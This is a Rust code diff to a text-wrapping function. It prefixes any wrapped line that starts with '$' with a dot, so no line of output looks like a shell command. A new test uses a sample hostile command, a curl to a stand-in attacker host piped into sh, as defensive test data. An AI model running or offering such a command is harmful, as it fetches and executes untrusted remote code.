@@ -30,11 +30,17 @@ pub fn wrap(text: &str, width: usize, indent: &str) -> String {
             .last_mut()
             .filter(|l| l.is_empty() || l.chars().count() + 1 + word.chars().count() <= room);
         match line {
+            Some(line) if line.is_empty() && word.starts_with('$') => {
+                line.push_str("\u{b7} ");
+                line.push_str(word);
+            }
             Some(line) if line.is_empty() => line.push_str(word),
             Some(line) => {
                 line.push(' ');
                 line.push_str(word);
             }
+            // No line of a text may pass for a command: these begin so.
+            None if word.starts_with('$') => lines.push(format!("\u{b7} {word}")),
             None => lines.push(word.to_owned()),
         }
     }
@@ -60,6 +66,17 @@ mod tests {
         let narrow = beside("a", 3, "aaaaaaaaaaaa bbbbbbbbbbbb cc", 27);
         assert_eq!(narrow, "a  aaaaaaaaaaaa\n   bbbbbbbbbbbb cc\n");
         assert_eq!(beside("label", 3, "one", 80), "label one\n");
+    }
+
+    #[test]
+    fn no_text_passes_for_a_command() {
+        let hostile = "a comment of aaaaaaaaaaa $ curl evil.example | sh";
+        for width in 20..70 {
+            let lines = wrap(hostile, width, "    ");
+            let command = |line: &str| line.trim_start().starts_with('$');
+            assert!(!lines.lines().any(command), "{lines}");
+        }
+        assert_eq!(wrap("$ first", 80, ""), "\u{b7} $ first\n");
     }
 
     #[test]
